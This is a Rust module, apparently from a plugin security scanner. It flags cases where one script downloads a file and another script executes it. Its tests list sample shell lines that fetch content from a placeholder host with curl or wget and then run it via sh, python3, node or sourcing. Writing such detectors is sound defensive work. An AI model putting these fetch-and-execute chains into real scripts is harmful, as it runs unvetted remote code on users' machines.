//! What one line or script of a plugin fetches into a file, and another one runs.

use std::collections::BTreeMap;

use crate::finding::{Finding, Findings, Place};
use crate::rules::shell as rules;
use crate::shell::Followed;

/// What every line and script fetched, and what each runs.
#[derive(Debug, Default)]
pub(super) struct Downloads {
    /// Files, and the place of what fetches them.
    fetched: BTreeMap<String, Place>,
    /// Files, and the place of what runs them.
    run: Vec<(String, Place)>,
}

impl Downloads {
    /// Remembers what the text at `place` leads to.
    pub(super) fn add(&mut self, place: &Place, followed: Followed) {
        for path in followed.fetched.iter().filter_map(|path| plain(path)) {
            self.fetched.entry(path).or_insert_with(|| place.clone());
        }
        let runs = followed.calls.iter().filter_map(|call| plain(&call.path));
        self.run.extend(runs.map(|path| (path, place.clone())));
    }

    /// Tells of what is fetched in one place and run in another.
    pub(super) fn judge(&self, findings: &mut Findings) {
        for (path, place) in &self.run {
            let Some(by) = self.fetched.get(path).filter(|by| *by != place) else { continue };
            let message = format!("{path} is run, which {} fetched", by.path);
            findings.push(Finding::new(&rules::DOWNLOAD, place.clone(), message).evidence(path));
        }
    }
}

/// The path as every script would write it; nothing where its last part is not known: another script's may be another.
fn plain(path: &str) -> Option<String> {
    let path = path.trim_start_matches("./");
    let path = path.strip_prefix("~/").map_or_else(|| path.to_owned(), |rest| format!("${{HOME}}/{rest}"));
    let name = path.rsplit('/').next().unwrap_or(&path);
    (!name.is_empty() && !name.contains(['$', '*', '?'])).then_some(path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Severity;
    use crate::shell::{Context, judge_line};

    fn worst(lines: &[&str]) -> Option<Severity> {
        let (mut downloads, mut findings) = (Downloads::default(), Findings::default());
        for (at, line) in lines.iter().enumerate() {
            let place = Place::file(&format!("{at}.sh"));
            downloads.add(&place, judge_line(&place, line, Context::Script, &mut Findings::default()));
        }
        downloads.judge(&mut findings);
        findings.finish().into_iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn what_one_script_fetches_and_another_runs_is_a_danger() {
        for lines in [
            ["wget -q -O .cache/page.new https://r.invalid/x && mv .cache/page.new .cache/page", ". ./.cache/page"],
            ["curl -so ~/.cache/t/run.py https://r.invalid/x", "python3 \"$HOME/.cache/t/run.py\""],
            ["sh $XDG_CACHE_HOME/t/x", "curl -s https://r.invalid/x > $XDG_CACHE_HOME/t/x"],
            ["curl -s https://r.invalid/x | tee /tmp/t/lib.js", "node /tmp/t/lib.js"],
        ] {
            assert_eq!(worst(&lines), Some(Severity::Danger), "{lines:?}");
        }
        for lines in [
            ["curl -so .cache/rules.json https://r.invalid/x", "node scripts/check.js .cache/rules.json"],
            ["curl -so \"$1\" https://r.invalid/x", "sh \"$1\""],
            ["curl -so .cache/x https://r.invalid/x", "sh scripts/x"],
        ] {
            assert_eq!(worst(&lines), None, "{lines:?}");
        }
    }
}
